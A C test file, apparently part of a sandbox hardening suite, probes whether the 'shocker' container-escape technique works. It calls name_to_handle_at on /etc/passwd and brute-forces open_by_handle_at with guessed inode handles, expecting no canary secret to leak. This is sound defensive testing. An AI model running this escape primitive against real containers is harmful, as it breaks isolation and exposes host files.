/* abuse: F10 name_to_handle_at + open_by_handle_at with brute-forced inode handles ("shocker") */
/* expect: probe !stdout~CANARY-SECRET */
#include "probe.h"
#include <fcntl.h>

struct handle
{
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[8];
};

static long
try_name (void *arg)
{
  struct handle h;
  int mount_id;
  (void) arg;
  memset (&h, 0, sizeof h);
  h.handle_bytes = 8;
  return syscall (__NR_name_to_handle_at, AT_FDCWD, "/etc/passwd", &h, &mount_id, 0);
}

static long
try_open (void *arg)
{
  /* ext4/tmpfs-style handles: inode number + generation; inode 2 is the root of most filesystems */
  (void) arg;
  for (unsigned ino = 2; ino < 64; ino++)
    {
      struct handle h;
      int fd;
      memset (&h, 0, sizeof h);
      h.handle_bytes = 8;
      h.handle_type = 1; /* FILEID_INO32_GEN */
      memcpy (h.f_handle, &ino, 4);
      fd = (int) syscall (__NR_open_by_handle_at, 0, &h, O_RDONLY);
      if (fd >= 0)
        return fd;
      if (errno == EPERM || errno == ENOSYS)
        return -1;
    }
  return -1;
}

int
main (void)
{
  probe ("name_to_handle_at", try_name, 0);
  probe ("open_by_handle_at brute force", try_open, 0);
  return probe_done ();
}
